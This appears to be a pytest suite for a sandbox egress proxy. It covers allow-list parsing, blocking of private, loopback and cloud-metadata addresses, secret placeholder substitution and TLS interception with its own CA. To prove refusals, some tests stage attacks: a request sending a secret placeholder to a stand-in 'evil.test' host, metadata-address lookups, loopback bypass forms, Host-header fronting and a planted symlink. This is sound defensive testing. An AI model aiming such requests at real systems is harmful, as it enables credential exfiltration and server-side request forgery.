"""The egress proxy of issue #33 as a library: the policy it parses, the addresses it refuses, and the proxy
itself driven by curl, urllib and raw sockets against echo servers on 127.0.0.1 that `hosts` names."""

from __future__ import annotations

import http.client
import ipaddress
import json
import os
import socket
import ssl
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from providers.local.supervisor.egress import proxy as egress_proxy
from providers.local.supervisor.egress.addresses import forbidden_kind
from providers.local.supervisor.egress.ca import CertificateAuthority, write_trust_bundle
from providers.local.supervisor.egress.http1 import Bounds
from providers.local.supervisor.egress.policy import Policy, Refused
from providers.local.supervisor.egress.service import ProxyHandle, sandbox_environment, start_proxy
from providers.local.supervisor.egress.substitute import BodyRewriter
from tests.egress_servers import EchoServer, ServerCertificates, echo_server, make_test_certificates

SECRET = "ghp_the-real-value-0123456789"
NAMES = ["web.test", "secure.test", "other.test", "a.wild.test", "wild.test", "meta.test"]


@pytest.fixture
def certificates(tmp_path: Path) -> ServerCertificates:
    return make_test_certificates(tmp_path / "test-ca", NAMES)


@pytest.fixture
def web() -> Iterator[EchoServer]:
    with echo_server() as server:
        yield server


@pytest.fixture
def tls(certificates: ServerCertificates) -> Iterator[EchoServer]:
    with echo_server(certificates) as server:
        yield server


class Proxies:
    """Starts proxies on 127.0.0.1 (closed at the test's end) and runs clients through them."""

    def __init__(self, tmp_path: Path, certificates: ServerCertificates) -> None:
        self.tmp_path = tmp_path
        self.certificates = certificates
        self.ca_dir = tmp_path / "egress-ca"
        self.bundle = tmp_path / "bundle.pem"
        self.handles: list[ProxyHandle] = []

    def start(
        self,
        allow: Sequence[str],
        secrets: dict[str, Any] | None = None,
        hosts: dict[str, str] | None = None,
        trust_test_ca: bool = True,
        **options: Any,
    ) -> tuple[ProxyHandle, Policy, int]:
        names = hosts if hosts is not None else {name: "127.0.0.1" for name in NAMES if name != "meta.test"}
        policy = Policy.parse(allow=allow, hosts=names, secrets=secrets)
        listening = socket.create_server(("127.0.0.1", 0))
        port = listening.getsockname()[1]
        extra = str(self.certificates.ca_file) if trust_test_ca else None
        handle = start_proxy(policy, self.ca_dir, listening, extra, **options)
        self.handles.append(handle)
        # Inside the sandbox: our CA for terminated hosts, and the test CA for the tunnelled test server.
        write_trust_bundle(self.ca_dir, self.bundle, [str(self.certificates.ca_file)])
        return handle, policy, port

    def environment(self, port: int, policy: Policy) -> dict[str, str]:
        url = f"http://127.0.0.1:{port}"  # in a sandbox, the relay sets these
        return {
            "PATH": os.environ["PATH"],
            "http_proxy": url,
            "https_proxy": url,
            **sandbox_environment(self.bundle, policy),
        }

    def curl(
        self, port: int, policy: Policy, url: str, *args: str, input_text: str | None = None
    ) -> subprocess.CompletedProcess[str]:
        command = ["curl", "-sS", "--max-time", "20", *args, url]
        environment = self.environment(port, policy)
        return subprocess.run(command, env=environment, input=input_text, capture_output=True, text=True, timeout=30)

    def close(self) -> None:
        for handle in self.handles:
            handle.close()


@pytest.fixture
def proxies(tmp_path: Path, certificates: ServerCertificates) -> Iterator[Proxies]:
    running = Proxies(tmp_path, certificates)
    yield running
    running.close()


def echoed(result: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    assert result.returncode == 0, result.stderr
    answer: dict[str, Any] = json.loads(result.stdout)
    return answer


def headers_of(answer: dict[str, Any]) -> dict[str, str]:
    return {name: value for name, value in answer["headers"]}


def wait_until(condition: Callable[[], bool], timeout: float = 5.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "condition not met in time"
        time.sleep(0.01)


# The policy


def test_allow_entries_match_names_wildcards_addresses_and_ports() -> None:
    policy = Policy.parse(allow=["pypi.org", "*.example.com", "build.internal:8080", "10.0.0.7:22", "[2001:db8::1]"])
    allowed = [("pypi.org", 443), ("pypi.org", 80), ("a.example.com", 443), ("a.b.example.com", 80)]
    allowed += [("build.internal", 8080), ("10.0.0.7", 22), ("2001:db8::1", 443)]
    for host, port in allowed:
        policy.check(host, port)
    refused = [("pypi.org", 8443), ("example.com", 443), ("evilexample.com", 443), ("build.internal", 443)]
    refused += [("10.0.0.7", 80), ("10.0.0.8", 22), ("2001:db8::2", 443), ("files.pypi.org", 443)]
    for host, port in refused:
        with pytest.raises(Refused, match=r"runtimes-mcp: .* (not in|not listed in) local\.sandbox\.allow"):
            policy.check(host, port)


@pytest.mark.parametrize(
    "entry",
    ["*", "*.com", "*.co.uk", "*.com.au", "*.github.io", "ex*ample.com", "*.*.example.com", "https://pypi.org",
     "pypi.org/simple", "pypi.org:0", "pypi.org:65536", "pypi.org:http", "2001:db8::1", "[2001:db8::1", "[x]:80",
     "", "a..b", "pypi .org", "0x7f.1", "2130706433", "*.10.0.0.1", "bücher.de"],
)  # fmt: skip
def test_broad_or_malformed_allow_entries_are_refused_by_name(entry: str) -> None:
    with pytest.raises(ValueError, match=r"^local\.sandbox\.allow: ") as refused:
        Policy.parse(allow=[entry])
    assert repr(entry) in str(refused.value)


def test_a_secret_is_checked_without_ever_repeating_its_value() -> None:
    base = {"value": SECRET, "hosts": ["api.test"]}
    bad: list[tuple[dict[str, Any], str]] = [
        ({"hosts": ["api.test"]}, "value"),
        ({**base, "value": SECRET + "\n"}, "value"),
        ({**base, "hosts": ["elsewhere.test"]}, "not in local.sandbox.allow"),
        ({**base, "hosts": ["*"]}, "too broad"),
        ({**base, "header": "Content-Length"}, "header"),
        ({**base, "format": "Bearer {token}"}, "format"),
        ({**base, "body": "yes"}, "body"),
        ({**base, "value_env": "1X"}, "variable"),
        ({**base, "colour": "red"}, "unknown"),
    ]
    for data, complaint in bad:
        with pytest.raises(ValueError, match=complaint) as refused:
            Policy.parse(allow=["api.test"], secrets={"github": data})
        assert SECRET not in str(refused.value) and "local.secrets.github" in str(refused.value)
    # a host without a port means 80 and 443, as in allow: where allow names another port, it says which
    for host in ("api.test", "api.test:9000"):
        with pytest.raises(ValueError, match=r"lets it out only on 8443.* e\.g\. api\.test:8443") as refused:
            Policy.parse(allow=["api.test:8443"], secrets={"github": {**base, "hosts": [host]}})
        assert SECRET not in str(refused.value) and "local.secrets.github" in str(refused.value)
    policy = Policy.parse(allow=["api.test"], secrets={"github": {**base, "value_env": "GITHUB_TOKEN"}})
    (secret,) = policy.secrets
    assert SECRET not in repr(policy) and secret.placeholder.startswith("rtmcp_ph_") and len(secret.placeholder) == 41
    assert policy.environment() == {"GITHUB_TOKEN": secret.placeholder}
    assert Policy.parse(allow=["api.test"], secrets={"github": base}).secrets[0].placeholder != secret.placeholder


@pytest.mark.parametrize(
    "address",
    ["127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "100.64.0.1", "169.254.169.254", "224.0.0.1", "0.0.0.0",
     "240.0.0.1", "::1", "::", "fe80::1", "fc00::1", "ff02::1", "::ffff:127.0.0.1", "::ffff:169.254.169.254",
     "2002:a00:1::1", "64:ff9b::a9fe:a9fe"],
)  # fmt: skip
def test_loopback_link_local_private_multicast_and_their_ipv6_forms_are_not_reachable(address: str) -> None:
    assert forbidden_kind(ipaddress.ip_address(address)) is not None


def test_public_addresses_are_reachable() -> None:
    for address in ("93.184.216.34", "1.1.1.1", "2606:4700:4700::1111"):
        assert forbidden_kind(ipaddress.ip_address(address)) is None


def test_a_placeholder_split_between_body_pieces_is_still_replaced() -> None:
    placeholder, value = b"rtmcp_ph_" + b"0" * 32, b"VALUE"
    body = b"a=" + placeholder + b"&b=" + placeholder
    for cut in range(len(body) + 1):
        rewriter = BodyRewriter([(placeholder, value)])
        assert rewriter.feed(body[:cut]) + rewriter.feed(body[cut:]) + rewriter.finish() == b"a=VALUE&b=VALUE"


# The CA


def test_the_ca_is_made_once_its_key_private_and_the_bundle_adds_it_to_the_systems(
    tmp_path: Path, certificates: ServerCertificates
) -> None:
    first = CertificateAuthority.load_or_create(tmp_path / "ca")
    again = CertificateAuthority.load_or_create(tmp_path / "ca")
    assert first.certificate == again.certificate
    assert stat.S_IMODE((tmp_path / "ca" / "ca-key.pem").stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "ca").stat().st_mode) == 0o700
    combined = tmp_path / "combined.pem"
    combined.write_bytes(certificates.key_file.read_bytes() + certificates.ca_file.read_bytes())
    bundle = write_trust_bundle(tmp_path / "ca", tmp_path / "bundle.pem", [str(combined)])
    text = bundle.read_text()
    assert (tmp_path / "ca" / "ca.pem").read_text().strip() in text and certificates.ca_file.read_text().strip() in text
    assert "PRIVATE KEY" not in text
    system = ssl.get_default_verify_paths().cafile or "/etc/ssl/certs/ca-certificates.crt"
    assert Path(system).read_text().split("-----END CERTIFICATE-----")[0] in text
    assert stat.S_IMODE(bundle.stat().st_mode) == 0o644
    victim = tmp_path / "victim"
    victim.write_text("untouched")
    (tmp_path / f".bundle.pem.{os.getpid()}").symlink_to(victim)  # a temporary file's predictable name, planted
    write_trust_bundle(tmp_path / "ca", tmp_path / "bundle.pem")
    assert victim.read_text() == "untouched"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".bundle.pem.")) == [
        f".bundle.pem.{os.getpid()}"
    ]
    (tmp_path / "ca" / "ca-key.pem").chmod(0o644)
    with pytest.raises(PermissionError, match="readable by others"):
        CertificateAuthority.load_or_create(tmp_path / "ca")


# The proxy: reaching what is allowed


def test_curl_reaches_an_allowed_name_over_http_and_https(proxies: Proxies, web: EchoServer, tls: EchoServer) -> None:
    handle, policy, port = proxies.start([f"web.test:{web.port}", f"secure.test:{tls.port}"])
    answer = echoed(proxies.curl(port, policy, f"http://web.test:{web.port}/path?q=1"))
    assert answer["path"] == "/path?q=1" and headers_of(answer)["host"] == f"web.test:{web.port}"
    assert "proxy-connection" not in headers_of(answer)
    # Tunnelled untouched: curl verifies the test server's own certificate, end to end.
    result = proxies.curl(port, policy, f"https://secure.test:{tls.port}/tls", "-v")
    assert echoed(result)["path"] == "/tls" and "egress test CA" in result.stderr
    assert handle.denied == []


def test_python_urllib_reaches_an_allowed_name_through_the_proxy_variables(
    proxies: Proxies, web: EchoServer, tls: EchoServer
) -> None:
    _, policy, port = proxies.start([f"web.test:{web.port}", f"secure.test:{tls.port}"])
    code = (
        "import json, sys, urllib.request\n"
        "for url in sys.argv[1:]:\n"
        "    print(json.loads(urllib.request.urlopen(url, timeout=20).read())['path'])\n"
    )
    urls = [f"http://web.test:{web.port}/plain", f"https://secure.test:{tls.port}/secure"]
    result = subprocess.run(
        [sys.executable, "-I", "-c", code, *urls],
        env=proxies.environment(port, policy),
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["/plain", "/secure"]


def test_a_client_connection_and_its_server_connection_are_kept_alive(proxies: Proxies, web: EchoServer) -> None:
    handle, _, port = proxies.start([f"web.test:{web.port}"])
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    seen = []
    for path in ("/one", "/two", "/three"):
        connection.request("GET", f"http://web.test:{web.port}{path}")
        seen.append(json.loads(connection.getresponse().read()))
    connection.close()
    assert [answer["path"] for answer in seen] == ["/one", "/two", "/three"]
    assert len({answer["client_port"] for answer in seen}) == 1  # one connection to the server
    assert handle.connections <= 1


def test_the_proxy_serves_a_unix_socket(tmp_path: Path, certificates: ServerCertificates, web: EchoServer) -> None:
    path = str(tmp_path / "proxy.sock")
    listening = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listening.bind(path)
    listening.listen()
    policy = Policy.parse(allow=[f"web.test:{web.port}"], hosts={"web.test": "127.0.0.1"})
    with start_proxy(policy, tmp_path / "ca", listening):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            client.settimeout(10)
            client.connect(path)
            client.sendall(f"GET http://web.test:{web.port}/unix HTTP/1.1\r\nHost: web.test\r\n\r\n".encode())
            response = http.client.HTTPResponse(client)  # type: ignore[arg-type]
            response.begin()
            assert response.status == 200 and json.loads(response.read())["path"] == "/unix"


# The proxy: refusing what is not


def test_an_unlisted_name_gets_a_403_that_says_what_would_allow_it_and_is_recorded_once(
    proxies: Proxies, web: EchoServer
) -> None:
    heard: list[str] = []
    handle, policy, port = proxies.start([f"web.test:{web.port}"], on_notice=heard.append)
    result = proxies.curl(port, policy, "http://other.test/", "-w", "%{http_code}")
    assert result.stdout == (
        "runtimes-mcp: other.test:80 is not in local.sandbox.allow (the sandbox's network is an allow-list); "
        "ask the operator to add it\n403"
    )
    https = proxies.curl(port, policy, "https://other.test/")
    assert https.returncode == 56 and "403" in https.stderr
    proxies.curl(port, policy, "http://other.test/")
    assert proxies.curl(port, policy, f"http://web.test:{web.port + 1}/").stdout.startswith("runtimes-mcp: web.test:")
    assert handle.denied == ["other.test:80", "other.test:443", f"web.test:{web.port + 1}"]
    assert [line.split()[1] for line in heard] == [
        "other.test:80",
        "other.test:443",
        "other.test:80",
        f"web.test:{web.port + 1}",
    ]
    assert "not in local.sandbox.allow" in heard[1]


def test_a_listed_name_that_resolves_to_the_metadata_address_is_refused(proxies: Proxies) -> None:
    async def lookup(host: str, port: int) -> list[str]:
        return {"meta.test": ["169.254.169.254"], "mixed.test": ["10.0.0.1", "fd00::1"]}[host]

    handle, policy, port = proxies.start(["meta.test", "mixed.test"], hosts={}, lookup=lookup)
    result = proxies.curl(port, policy, "http://meta.test/latest/meta-data/")
    assert "resolves to 169.254.169.254, a link-local" in result.stdout
    assert "local.sandbox.hosts" in result.stdout
    assert "a private address" in proxies.curl(port, policy, "http://mixed.test/").stdout
    assert handle.denied == ["meta.test:80", "mixed.test:80"]


def test_a_listed_name_that_dns_resolves_to_loopback_is_refused(proxies: Proxies) -> None:
    handle, policy, port = proxies.start(["localhost"], hosts={})
    result = proxies.curl(port, policy, "http://localhost/", "--noproxy", "")
    assert "resolves to" in result.stdout and "loopback" in result.stdout
    assert handle.denied == ["localhost:80"]


def test_a_raw_ip_is_refused_unless_allowed_literally(proxies: Proxies, web: EchoServer) -> None:
    handle, policy, port = proxies.start([f"web.test:{web.port}"])
    no_bypass = ["--noproxy", ""]  # the sandbox's own loopback is exempt from the proxy; here we want it
    result = proxies.curl(port, policy, f"http://127.0.0.1:{web.port}/", *no_bypass)
    assert f"127.0.0.1:{web.port} is an IP address not listed in local.sandbox.allow" in result.stdout
    assert proxies.curl(port, policy, f"http://[::ffff:127.0.0.1]:{web.port}/", *no_bypass).stdout.startswith(
        f"runtimes-mcp: 127.0.0.1:{web.port} is an IP address"
    )
    assert handle.denied == [f"127.0.0.1:{web.port}"]
    _, policy, port = proxies.start([f"127.0.0.1:{web.port}"])
    assert echoed(proxies.curl(port, policy, f"http://127.0.0.1:{web.port}/ip", *no_bypass))["path"] == "/ip"


def test_wildcards_cover_subdomains_only_and_ports_are_enforced(proxies: Proxies, web: EchoServer) -> None:
    handle, policy, port = proxies.start([f"*.wild.test:{web.port}"])
    assert echoed(proxies.curl(port, policy, f"http://a.wild.test:{web.port}/sub"))["path"] == "/sub"
    assert "403" in proxies.curl(port, policy, f"http://wild.test:{web.port}/", "-w", "%{http_code}").stdout
    assert "403" in proxies.curl(port, policy, "http://a.wild.test/", "-w", "%{http_code}").stdout
    assert handle.denied == [f"wild.test:{web.port}", "a.wild.test:80"]


def test_a_request_that_is_not_a_proxy_request_is_answered_400(proxies: Proxies) -> None:
    _, _, port = proxies.start(["web.test"])
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    connection.request("GET", "/not-absolute")
    response = connection.getresponse()
    assert response.status == 400 and b"absolute form" in response.read()
    connection.close()


# Secrets


def secret_for(host: str, **extra: Any) -> dict[str, Any]:
    return {"github": {"value": SECRET, "value_env": "GITHUB_TOKEN", "hosts": [host], **extra}}


def test_a_secret_replaces_its_placeholder_and_sets_its_header(proxies: Proxies, tls: EchoServer) -> None:
    host = f"secure.test:{tls.port}"
    options = {"header": "Authorization", "format": "Bearer {value}"}
    handle, policy, port = proxies.start([host, f"other.test:{tls.port}"], secret_for(host, **options))
    placeholder = policy.environment()["GITHUB_TOKEN"]
    answer = echoed(proxies.curl(port, policy, f"https://{host}/?key={placeholder}", "-H", f"X-Token: {placeholder}"))
    assert headers_of(answer)["x-token"] == SECRET
    assert headers_of(answer)["authorization"] == f"Bearer {SECRET}"
    assert answer["path"] == f"/?key={SECRET}"
    # Sent to another allowed host, the placeholder stays what it is, and no header is added.
    elsewhere = echoed(proxies.curl(port, policy, f"https://other.test:{tls.port}/", "-H", f"X-Token: {placeholder}"))
    assert headers_of(elsewhere)["x-token"] == placeholder and "authorization" not in headers_of(elsewhere)
    # Refused elsewhere, the value appears in no record either.
    proxies.curl(port, policy, f"http://evil.test/?key={placeholder}", "-H", f"X-Token: {placeholder}")
    assert handle.denied == ["evil.test:80"]


def test_a_secret_is_never_added_over_plain_http_and_the_run_is_told_once(proxies: Proxies, web: EchoServer) -> None:
    """Plain HTTP leaves the machine unencrypted, to whatever answers at that address (a run's own service on
    the host's loopback, say): its placeholder stays a placeholder, and the run hears why, once."""
    host = f"web.test:{web.port}"
    heard: list[str] = []
    options = {"header": "Authorization", "format": "Bearer {value}", "body": True}
    _, policy, port = proxies.start([host], secret_for(host, **options), on_notice=heard.append)
    placeholder = policy.environment()["GITHUB_TOKEN"]
    for path in ("/one", "/two"):
        answer = echoed(
            proxies.curl(
                port,
                policy,
                f"http://{host}{path}?key={placeholder}",
                "-H",
                f"X-Token: {placeholder}",
                "--data-binary",
                placeholder,
            )
        )
        assert headers_of(answer)["x-token"] == placeholder and "authorization" not in headers_of(answer)
        assert answer["path"] == f"{path}?key={placeholder}" and answer["body"] == placeholder
    plain = echoed(proxies.curl(port, policy, f"http://{host}/none"))  # no placeholder: nothing to say
    assert "authorization" not in headers_of(plain)
    assert len(heard) == 1 and "plain HTTP" in heard[0] and "local.secrets.github" in heard[0], heard
    assert f"https://{host}" in heard[0] and SECRET not in heard[0]


def test_a_secret_over_https_terminates_tls_with_our_ca_and_only_for_its_host(
    proxies: Proxies, tls: EchoServer
) -> None:
    host = f"secure.test:{tls.port}"
    handle, policy, port = proxies.start([host, f"other.test:{tls.port}"], secret_for(host, header="X-Api-Key"))
    placeholder = policy.environment()["GITHUB_TOKEN"]
    result = proxies.curl(port, policy, f"https://{host}/s", "-v", "-H", f"X-Token: {placeholder}")
    answer = echoed(result)
    assert headers_of(answer)["x-token"] == SECRET and headers_of(answer)["x-api-key"] == SECRET
    assert "runtimes-mcp sandbox egress CA" in result.stderr  # the certificate curl checked is ours
    result = proxies.curl(port, policy, f"https://other.test:{tls.port}/o", "-v", "-H", f"X-Token: {placeholder}")
    assert headers_of(echoed(result))["x-token"] == placeholder
    assert "egress test CA" in result.stderr  # tunnelled: the server's own certificate
    assert handle.denied == []


def test_inside_a_terminated_tunnel_the_host_header_names_the_tunnels_host(proxies: Proxies, tls: EchoServer) -> None:
    host = f"secure.test:{tls.port}"
    _, policy, port = proxies.start([host, f"other.test:{tls.port}"], secret_for(host, header="X-Api-Key"))
    answer = echoed(proxies.curl(port, policy, f"https://{host}/", "-H", f"Host: other.test:{tls.port}"))
    assert headers_of(answer)["host"] == host  # a fronted Host cannot carry the secret elsewhere


def test_a_secret_with_body_set_is_replaced_in_bodies_of_either_framing(
    proxies: Proxies, web: EchoServer, tls: EchoServer
) -> None:
    hosts = [f"web.test:{web.port}", f"secure.test:{tls.port}"]
    _, policy, port = proxies.start(hosts, {"api": {"value": SECRET, "hosts": hosts, "body": True}})
    placeholder = policy.environment()["api"]
    form = f"token={placeholder}&again={placeholder}"
    for host in hosts:
        scheme = "https" if host.startswith("secure") else "http"
        expected = f"token={SECRET}&again={SECRET}" if scheme == "https" else form  # never over plain HTTP
        sized = echoed(proxies.curl(port, policy, f"{scheme}://{host}/form", "--data-binary", form))
        assert sized["body"] == expected
        assert headers_of(sized)["content-length"] == str(len(sized["body"]))
        chunked = echoed(
            proxies.curl(
                port, policy, f"{scheme}://{host}/c", "--data-binary", form, "-H", "Transfer-Encoding: chunked"
            )
        )
        assert chunked["body"] == expected
    # Over the bound for holding a body, it is streamed (chunked) instead.
    big = "x" * (1024 * 1024) + placeholder
    answer = echoed(proxies.curl(port, policy, f"https://{hosts[1]}/big", "--data-binary", "@-", input_text=big))
    assert answer["body"].endswith(SECRET) and len(answer["body"]) == 1024 * 1024 + len(SECRET)


def test_a_server_whose_certificate_the_proxy_does_not_trust_gets_no_secret(proxies: Proxies, tls: EchoServer) -> None:
    host = f"secure.test:{tls.port}"
    handle, policy, port = proxies.start([host], secret_for(host), trust_test_ca=False)
    result = proxies.curl(port, policy, f"https://{host}/")
    assert result.returncode == 56 and "502" in result.stderr
    assert handle.denied == []


def test_a_trust_store_that_cannot_be_loaded_is_a_502_naming_the_setting(
    proxies: Proxies, tls: EchoServer, certificates: ServerCertificates, tmp_path: Path
) -> None:
    """What verifies a secret's host is loaded at its first request: an operator's ca_file gone by then is
    answered, not a connection cut without a word."""
    host = f"secure.test:{tls.port}"
    gone = tmp_path / "operator-ca.pem"
    gone.write_bytes(certificates.ca_file.read_bytes())
    policy = Policy.parse(allow=[host], hosts={"secure.test": "127.0.0.1"}, secrets=secret_for(host))
    listening = socket.create_server(("127.0.0.1", 0))
    with start_proxy(policy, proxies.ca_dir, listening, str(gone)):
        gone.unlink()
        with socket.create_connection(listening.getsockname(), timeout=10) as client:
            client.sendall(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            answer = client.makefile("rb").read().decode()
    assert answer.startswith("HTTP/1.1 502"), answer
    assert "local.sandbox.ca_file" in answer and "proxy_configuration_error" in answer


# Bounds and lifetime


def test_an_oversized_request_head_is_answered_431(proxies: Proxies) -> None:
    _, _, port = proxies.start(["web.test"], bounds=Bounds(max_head_bytes=4096))
    with socket.create_connection(("127.0.0.1", port), timeout=10) as client:
        client.sendall(b"GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\nX-Big: " + b"a" * 100_000 + b"\r\n\r\n")
        response = http.client.HTTPResponse(client)  # type: ignore[arg-type]
        response.begin()
        assert response.status == 431 and b"over 4096 bytes" in response.read()


def test_connections_past_the_bound_get_a_503_and_idle_ones_are_closed(proxies: Proxies) -> None:
    handle, _, port = proxies.start(["web.test"], bounds=Bounds(max_connections=2, idle_timeout=1.0))
    held = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(2)]
    wait_until(lambda: handle.connections == 2)
    with socket.create_connection(("127.0.0.1", port), timeout=10) as third:
        assert third.recv(1024).startswith(b"HTTP/1.1 503")
    started = time.monotonic()
    for client in held:
        assert client.recv(1024) == b""  # closed by the proxy: idle past the timeout
        client.close()
    assert time.monotonic() - started < 5
    wait_until(lambda: handle.connections == 0)


def open_sockets() -> int:
    count = 0
    for fd in os.listdir("/proc/self/fd"):
        try:
            count += os.readlink(f"/proc/self/fd/{fd}").startswith("socket:")
        except FileNotFoundError:
            pass  # closed meanwhile (by another thread, or the listing's own descriptor)
    return count


def proxy_threads() -> list[threading.Thread]:
    return [thread for thread in threading.enumerate() if thread.name == "egress-proxy"]


def test_close_ends_the_thread_every_connection_and_the_listening_socket(
    tmp_path: Path, certificates: ServerCertificates, web: EchoServer
) -> None:
    before = open_sockets()
    listening = socket.create_server(("127.0.0.1", 0))
    port = listening.getsockname()[1]
    policy = Policy.parse(allow=[f"web.test:{web.port}"], hosts={"web.test": "127.0.0.1"})
    handle = start_proxy(policy, tmp_path / "ca", listening)
    idle = socket.create_connection(("127.0.0.1", port), timeout=10)
    tunnel = socket.create_connection(("127.0.0.1", port), timeout=10)
    tunnel.sendall(f"CONNECT web.test:{web.port} HTTP/1.1\r\nHost: web.test\r\n\r\n".encode())
    assert tunnel.recv(1024).startswith(b"HTTP/1.1 200")
    wait_until(lambda: handle.connections == 2)
    started = time.monotonic()
    handle.close()
    assert time.monotonic() - started < 3
    assert not handle.running and proxy_threads() == []
    assert idle.recv(1024) == b"" and tunnel.recv(1024) == b""
    idle.close()
    tunnel.close()
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection(("127.0.0.1", port), timeout=10).close()
    wait_until(lambda: open_sockets() == before)  # the echo server's side of the tunnel closes in its own thread


def test_the_sandbox_environment_names_the_bundle_and_the_placeholders(tmp_path: Path) -> None:
    policy = Policy.parse(allow=["api.test"], secrets=secret_for("api.test"))
    environment = sandbox_environment(tmp_path / "bundle.pem", policy)
    for name in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO"):
        assert environment[name] == str(tmp_path / "bundle.pem")
    assert environment["GITHUB_TOKEN"] == policy.secrets[0].placeholder
    assert SECRET not in json.dumps(environment)


def test_requests_inside_a_terminated_tunnel_share_one_server_connection(proxies: Proxies, tls: EchoServer) -> None:
    host = f"secure.test:{tls.port}"
    _, policy, port = proxies.start([host], secret_for(host, header="X-Api-Key"))
    result = proxies.curl(port, policy, f"https://{host}/two", "-w", "\n", f"https://{host}/one")
    assert result.returncode == 0, result.stderr
    answers = [json.loads(line) for line in result.stdout.splitlines() if line]
    assert [answer["path"] for answer in answers] == ["/one", "/two"]
    assert answers[0]["client_port"] == answers[1]["client_port"]
    assert all(headers_of(answer)["x-api-key"] == SECRET for answer in answers)


def test_a_client_waiting_for_100_continue_is_not_kept_waiting(
    proxies: Proxies, web: EchoServer, tls: EchoServer
) -> None:
    host = f"secure.test:{tls.port}"
    _, policy, port = proxies.start(
        [host, f"other.test:{web.port}"], {"api": {"value": SECRET, "hosts": [host], "body": True}}
    )
    placeholder = policy.environment()["api"]
    for url in (f"https://{host}/", f"http://other.test:{web.port}/"):  # held whole for the secret, and streamed
        started = time.monotonic()
        answer = echoed(proxies.curl(port, policy, url, "--data-binary", placeholder, "-H", "Expect: 100-continue"))
        assert time.monotonic() - started < 0.9  # curl waits a second for a 100 that does not come
        assert answer["body"] == (SECRET if url.startswith("https") else placeholder)


def test_the_denied_record_is_bounded(proxies: Proxies, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(egress_proxy, "MAX_DENIED", 2)
    heard: list[str] = []
    handle, policy, port = proxies.start(["web.test"], on_notice=lambda line: heard.append(line.split()[1]))
    for name in ("one.test", "two.test", "three.test"):
        assert "403" in proxies.curl(port, policy, f"http://{name}/", "-w", "%{http_code}").stdout
    assert handle.denied == ["one.test:80", "two.test:80"]
    assert heard == ["one.test:80", "two.test:80", "three.test:80"]  # the callback still hears of each
